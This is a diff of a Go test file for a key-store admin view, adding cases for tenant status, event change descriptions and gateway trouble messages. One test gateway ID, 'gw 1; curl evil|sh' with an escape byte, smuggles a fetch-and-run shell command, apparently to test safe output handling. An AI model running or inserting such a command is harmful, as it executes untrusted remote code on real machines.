@@ -38,6 +38,8 @@ func TestTexts(t *testing.T) {
 		{DeprecatedView{}.EndsIn(), "never"},
 		{DeprecatedView{DaysLeft: &none}.EndsIn(), "0 days"},
 		{DeprecatedView{DaysLeft: &one}.EndsIn(), "1 day"},
+		{TenantView{Suspended: true}.Status(), "suspended"},
+		{TenantView{Suspended: true}.NoQuota(), ""},
 		{Plural(0, "day"), "0 days"},
 		{Plural(1, "day"), "1 day"},
 		{Plural(1739, "day"), "1,739 days"},
@@ -67,6 +69,15 @@ func TestChangeOf(t *testing.T) {
 		{"an address", `{"address":"10.0.0.5:9090"}`, "", "was: address 10.0.0.5:9090"},
 		{"an address with words", "", `{"address":"x, plan free"}`, `address "x, plan free"`},
 		{"a tenant that was suspended", `{"suspended":true}`, "", "was: suspended"},
+		{
+			"what says nothing about a change",
+			`{"id":"x","tenantId":"x","keyId":"x","createdAt":1,"imposedAt":1,"applied":1,"registeredAt":1,"seenAt":1,"age":1,"lastUsedAt":1,"plan":"free"}`,
+			"", "was: plan free",
+		},
+		{
+			"limits", "", `{"limits":{"minute":1,"day":2,"month":3},"override":{"minute":4,"day":5,"month":6},"test":{"minute":7}}`,
+			"limit per day 2, limit per minute 1, limit per month 3, own limit per day 5, own limit per minute 4, own limit per month 6, test keys' limit per minute 7",
+		},
 		{"a time that is not set", `{"expiresAt":0}`, `{"expiresAt":1000}`, "expires 1970-01-01T00:00:01Z"},
 	} {
 		if got := ChangeOf(keystore.Event{Before: c.before, After: c.after}); got != c.want {
@@ -156,15 +167,18 @@ func TestGatewayStates(t *testing.T) {
 		{state: keystore.GatewayLive},
 		{state: keystore.GatewayBehind},
 		{state: keystore.GatewayStarting},
-		{state: keystore.GatewaySilent, problem: "not seen for 5 s: it has stopped", cure: "restart it. " + forget},
-		{state: keystore.GatewaySilent, problem: "so changes wait for it, at most 56 s longer", cure: forget, maxAge: 60_000},
-		{state: keystore.GatewayFenced, problem: "not seen for 5 s, longer than its --directory-max-age", cure: "restart it"},
-		{state: keystore.GatewayReplaced, problem: "another process has registered with its ID", cure: "its own GATEWAY_ID. " + forget},
+		{state: keystore.GatewaySilent, problem: "not seen for 5 s: " + silentMeans, cure: "restart it. " + forget},
+		{state: keystore.GatewaySilent, problem: "not seen for 5 s: " + silentMeans + ", at most 56 s longer", cure: forget, maxAge: 60_000},
+		{state: keystore.GatewayFenced, problem: "not seen for 5 s, " + fencedMeans, cure: "restart it"},
+		{state: keystore.GatewayReplaced, problem: replacedMeans, cure: "its own GATEWAY_ID. " + forget},
 	} {
 		means := slices.IndexFunc(GatewayStates, func(s struct{ State, Means string }) bool { return s.State == c.state })
 		problem, cure := GatewayTrouble(keystore.Gateway{ID: "gw 1; curl evil|sh\x1b", Age: 5000, MaxAge: c.maxAge}, c.state)
-		if means < 0 || (problem == "") != (c.problem == "") || !strings.Contains(problem, c.problem) || !strings.Contains(cure, c.cure) {
+		if means < 0 || problem != c.problem || !strings.Contains(cure, c.cure) {
 			t.Errorf("%s: %q, %q; want %q, %q", c.state, problem, cure, c.problem, c.cure)
 		}
+	}
+	if v := viewGateway(keystore.Gateway{Applied: 9}, 7); v.Lag != 0 {
+		t.Errorf("a gateway that is ahead lags by %d", v.Lag)
 	}
 }
